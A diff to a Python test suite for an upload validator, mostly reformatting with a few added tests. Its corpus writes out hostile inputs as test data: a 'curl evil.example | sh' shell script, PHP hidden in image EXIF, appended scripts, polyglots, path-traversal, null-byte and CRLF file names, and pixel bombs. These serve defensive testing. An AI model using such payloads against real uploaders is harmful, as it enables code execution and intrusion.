@@ -62,6 +62,10 @@ def noisy(size, fmt, **save):
     return out.getvalue()
 
 
+def half(data):
+    return data[: len(data) // 2]
+
+
 def encoded(image, fmt, **save):
     out = io.BytesIO()
     image.save(out, fmt, **save)
@@ -114,7 +118,9 @@ def ooxml(main_part, **extra):
 
 
 def odf(mimetype):
-    return zipped({"content.xml": "<office:document-content/>", "META-INF/manifest.xml": "<manifest/>"}, mimetype=mimetype)
+    return zipped(
+        {"content.xml": "<office:document-content/>", "META-INF/manifest.xml": "<manifest/>"}, mimetype=mimetype
+    )
 
 
 def ooxml_claiming_huge():
@@ -231,15 +237,27 @@ CORPUS = [
     pytest.param(lambda: HTML, "laporan.pdf", Rejected(NOT_ACCEPTED), id="html-named-pdf"),
     pytest.param(lambda: b"<html>%PDF-1.7" + SCRIPT, "x.pdf", Rejected(NOT_ACCEPTED), id="html-with-pdf-header-inside"),
     pytest.param(lambda: b"#!/bin/sh\ncurl evil.example | sh\n", "rpp.docx", Rejected(NOT_ACCEPTED), id="shell-script"),
-    pytest.param(lambda: "Ini hanya teks biasa.".encode(), "rpp.docx", Rejected(NOT_ACCEPTED), id="text-named-docx"),
+    pytest.param(lambda: b"Ini hanya teks biasa.", "rpp.docx", Rejected(NOT_ACCEPTED), id="text-named-docx"),
     # Payloads riding along with real pixels: only the re-encoded pixels are stored.
-    pytest.param(lambda: encoded(Image.new("RGB", (40, 30)), "PNG") + SCRIPT, "a.png", clean_photo(SCRIPT), id="png-appended-script"),
+    pytest.param(
+        lambda: encoded(Image.new("RGB", (40, 30)), "PNG") + SCRIPT,
+        "a.png",
+        clean_photo(SCRIPT),
+        id="png-appended-script",
+    ),
     pytest.param(lambda: jpeg() + HTML, "a.jpg", clean_photo(HTML, b"<html"), id="jpeg-appended-html"),
-    pytest.param(lambda: encoded(Image.new("RGB", (40, 30)), "WEBP") + HTML, "a.webp", clean_photo(b"<html"), id="webp-appended-html"),
+    pytest.param(
+        lambda: encoded(Image.new("RGB", (40, 30)), "WEBP") + HTML,
+        "a.webp",
+        clean_photo(b"<html"),
+        id="webp-appended-html",
+    ),
     pytest.param(jpeg_with_php_exif, "a.jpg", clean_photo(PHP, b"<?php", b"Exif"), id="jpeg-php-in-exif"),
     pytest.param(lambda: jpeg(comment=PHP), "a.jpg", clean_photo(PHP, b"<?php"), id="jpeg-php-in-comment"),
     pytest.param(png_with_text_chunk, "a.png", clean_photo(SCRIPT), id="png-script-in-text-chunk"),
-    pytest.param(lambda: jpeg() + zipped({"evil.html": HTML}), "a.jpg", clean_photo(b"PK\x03\x04", HTML), id="jpeg-zip-polyglot"),
+    pytest.param(
+        lambda: jpeg() + zipped({"evil.html": HTML}), "a.jpg", clean_photo(b"PK\x03\x04", HTML), id="jpeg-zip-polyglot"
+    ),
     # Pixel bombs: refused from the header, before any decoding.
     pytest.param(lambda: png_bomb(20_000, 20_000), "a.png", Rejected(TOO_LARGE), id="png-20000x20000"),
     pytest.param(lambda: png_bomb(10_000, 10_000), "a.png", Rejected(TOO_LARGE), id="png-10000x10000-pillow-warns"),
@@ -247,10 +265,12 @@ CORPUS = [
     pytest.param(lambda: jpeg_claiming(60_000, 60_000), "a.jpg", Rejected(TOO_LARGE), id="jpeg-header-60000x60000"),
     pytest.param(lambda: jpeg_claiming(8_000, 6_000), "a.jpg", Rejected(TOO_LARGE), id="jpeg-header-8000x6000"),
     # Broken images.
-    pytest.param(lambda: noisy((256, 256), "JPEG")[:3000], "a.jpg", Rejected(DAMAGED_PHOTO), id="truncated-jpeg"),
-    pytest.param(lambda: noisy((128, 128), "PNG")[:20000], "a.png", Rejected(DAMAGED_PHOTO), id="truncated-png"),
+    pytest.param(lambda: half(noisy((256, 256), "JPEG")), "a.jpg", Rejected(DAMAGED_PHOTO), id="truncated-jpeg"),
+    pytest.param(lambda: half(noisy((128, 128), "PNG")), "a.png", Rejected(DAMAGED_PHOTO), id="truncated-png"),
     pytest.param(png_with_bad_crc, "a.png", Rejected(DAMAGED_PHOTO), id="png-bad-crc"),
-    pytest.param(lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 200, "a.jpg", Rejected(DAMAGED_PHOTO), id="jpeg-signature-only"),
+    pytest.param(
+        lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 200, "a.jpg", Rejected(DAMAGED_PHOTO), id="jpeg-signature-only"
+    ),
     # Image formats that are not accepted.
     pytest.param(gif, "a.gif", Rejected(NOT_ACCEPTED), id="gif"),
     pytest.param(lambda: encoded(Image.new("RGB", (20, 20)), "BMP"), "a.bmp", Rejected(NOT_ACCEPTED), id="bmp"),
@@ -261,25 +281,49 @@ CORPUS = [
     pytest.param(lambda: b"", "kosong.pdf", Rejected("The file is empty."), id="zero-bytes"),
     pytest.param(lambda: MINIMAL_PDF.ljust(2048, b" "), "besar.pdf", Rejected("larger than"), id="over-the-limit"),
     # Executables and archives.
-    pytest.param(lambda: b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode", "rpp.pdf", Rejected(NOT_ACCEPTED), id="exe"),
+    pytest.param(
+        lambda: b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode",
+        "rpp.pdf",
+        Rejected(NOT_ACCEPTED),
+        id="exe",
+    ),
     pytest.param(lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "a.doc", Rejected(NOT_ACCEPTED), id="elf"),
     pytest.param(lambda: b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100, "a.rar", Rejected(NOT_ACCEPTED), id="rar"),
-    pytest.param(lambda: zipped({"readme.txt": "hi", "run.exe": "MZ"}), "a.docx", Rejected("ZIP archives are not accepted."), id="plain-zip"),
-    pytest.param(lambda: zipped({"[Content_Types].xml": "<Types/>"}), "a.docx", Rejected("ZIP archives"), id="ooxml-without-main-part"),
+    pytest.param(
+        lambda: zipped({"readme.txt": "hi", "run.exe": "MZ"}),
+        "a.docx",
+        Rejected("ZIP archives are not accepted."),
+        id="plain-zip",
+    ),
+    pytest.param(
+        lambda: zipped({"[Content_Types].xml": "<Types/>"}),
+        "a.docx",
+        Rejected("ZIP archives"),
+        id="ooxml-without-main-part",
+    ),
     pytest.param(lambda: odf("application/x-evil"), "a.odt", Rejected("ZIP archives"), id="odf-unknown-mimetype"),
     pytest.param(lambda: ooxml_with_many_parts(3000), "a.docx", Rejected("too many parts"), id="ooxml-3000-entries"),
     pytest.param(ooxml_claiming_huge, "a.docx", Rejected("too large when unpacked"), id="ooxml-claims-4gb"),
-    pytest.param(lambda: ooxml("word/document.xml", **{"word/vbaProject.bin": b"\x00"}), "a.docx", Rejected("macros"), id="docm-with-macros"),
+    pytest.param(
+        lambda: ooxml("word/document.xml", **{"word/vbaProject.bin": b"\x00"}),
+        "a.docx",
+        Rejected("macros"),
+        id="docm-with-macros",
+    ),
     pytest.param(lambda: b"PK\x03\x04" + b"\x00" * 200, "a.docx", Rejected("could not be read"), id="broken-zip"),
     # Names: accepted, but what is shown and offered for download is a plain, honest name.
     pytest.param(lambda: jpeg(), "../../etc/passwd.jpg", clean_photo(name="passwd.jpg"), id="path-traversal-name"),
-    pytest.param(lambda: MINIMAL_PDF, "..\\..\\windows\\evil.pdf", stored_file(".pdf", "evil.pdf"), id="backslash-traversal-name"),
+    pytest.param(
+        lambda: MINIMAL_PDF, "..\\..\\windows\\evil.pdf", stored_file(".pdf", "evil.pdf"), id="backslash-traversal-name"
+    ),
     pytest.param(lambda: jpeg(), "shell.php\x00.jpg", clean_photo(name="shell.php.jpg"), id="null-byte-name"),
-    pytest.param(lambda: MINIMAL_PDF, "tugas\u202efdp.exe", stored_file(".pdf", "tugasfdp.pdf"), id="bidi-override-name"),
+    pytest.param(
+        lambda: MINIMAL_PDF, "tugas\u202efdp.exe", stored_file(".pdf", "tugasfdp.pdf"), id="bidi-override-name"
+    ),
     pytest.param(lambda: MINIMAL_PDF, "a" * 200 + ".pdf", stored_file(".pdf", "a" * 116 + ".pdf"), id="200-char-name"),
     pytest.param(lambda: OLE2, "setup.exe", stored_file(".doc", "setup.doc"), id="ole-named-exe-stored-as-doc"),
     pytest.param(lambda: jpeg(), "foto.png", clean_photo(name="foto.jpg"), id="jpeg-named-png"),
-]  # fmt: skip
+]
 
 
 @pytest.mark.parametrize(("make", "name", "expected"), CORPUS)
@@ -316,26 +360,33 @@ def test_pixel_cap_is_checked_before_decoding(data, monkeypatch):
 
 def test_bomb_png_is_small_on_disk():
     assert len(png_bomb(20_000, 20_000)) < 100_000
-    assert 9_000 * 9_000 > MAX_PIXELS
+    assert MAX_PIXELS < 9_000 * 9_000
+
+
+class CountingFile(io.BytesIO):
+    def __init__(self, data):
+        super().__init__(data)
+        self.reads = []
+
+    def read(self, size=-1):
+        self.reads.append(size)
+        return super().read(size)
 
 
 def test_the_declared_size_is_checked_before_reading():
-    uploaded = SimpleUploadedFile("a.pdf", MINIMAL_PDF)
-    uploaded.size = 50 * MB
-    uploaded.read = uploaded.chunks = None  # would fail if touched
+    uploaded = SimpleUploadedFile("a.pdf", b"")
+    uploaded.file, uploaded.size = CountingFile(MINIMAL_PDF), 50 * MB
     with pytest.raises(UploadRejected, match="larger than 10 MB"):
         process_upload(uploaded, max_bytes=LIMIT)
+    assert uploaded.file.reads == []
 
 
 def test_a_lying_size_does_not_make_it_read_everything():
-    uploaded = SimpleUploadedFile("a.pdf", MINIMAL_PDF.ljust(5000, b" "))
-    uploaded.size = 10
-    reads = []
-    real_read = uploaded.read
-    uploaded.read = lambda n=-1: reads.append(n) or real_read(n)
+    uploaded = SimpleUploadedFile("a.pdf", b"")
+    uploaded.file, uploaded.size = CountingFile(MINIMAL_PDF.ljust(5000, b" ")), 10
     with pytest.raises(UploadRejected, match="larger than"):
         process_upload(uploaded, max_bytes=1024)
-    assert reads == [1025]
+    assert uploaded.file.reads == [1025]
 
 
 def test_truncated_images_are_never_loaded(monkeypatch):
@@ -370,14 +421,24 @@ def test_photo_loses_every_exif_field_and_the_location():
     assert Image.open(io.BytesIO(result.content)).getexif() == {}
 
 
-def test_photo_orientation_is_applied():
-    result = upload(gps_photo((400, 200)))
-    assert (result.width, result.height) == (200, 400)
+@pytest.mark.parametrize(
+    ("size", "stored"),
+    [
+        ((400, 200), (200, 400)),
+        ((3400, 1700), (800, 1600)),  # decoded at reduced scale, then turned
+    ],
+)
+def test_photo_orientation_is_applied(size, stored):
+    result = upload(gps_photo(size))
+    assert (result.width, result.height) == stored
     image = Image.open(io.BytesIO(result.content)).convert("RGB")
-    # Rotated clockwise, the red left half is now on top.
-    assert image.getpixel((100, 50))[0] > 200 and image.getpixel((100, 50))[1] < 60
-    assert image.getpixel((100, 350)) > (230, 230, 230)
-    assert Image.open(io.BytesIO(result.thumbnail)).size == (200, 400)  # small photos are not enlarged
+    width, height = stored
+    # Turned clockwise, the red left half is now on top.
+    top, bottom = image.getpixel((width // 2, height // 4)), image.getpixel((width // 2, height * 3 // 4))
+    assert top[0] > 200 and top[1] < 60
+    assert bottom > (230, 230, 230)
+    thumbnail = Image.open(io.BytesIO(result.thumbnail)).size
+    assert thumbnail == (200, 400)
 
 
 def camera_photo(width=4000, height=3000):
@@ -551,6 +612,7 @@ def test_upload_is_read_from_the_start():
         ("", ".pdf", "berkas.pdf"),
         ("..", ".pdf", "berkas.pdf"),
         ("dir/", ".pdf", "berkas.pdf"),
+        (".pdf", ".pdf", "berkas.pdf"),
         ("\x00\x01\x1f", "", "berkas"),
         ("laporan\r\nSet-Cookie: x.pdf", ".pdf", "laporanSet-Cookie: x.pdf"),
         ("  foto   kelas  .jpg ", ".jpg", "foto kelas.jpg"),
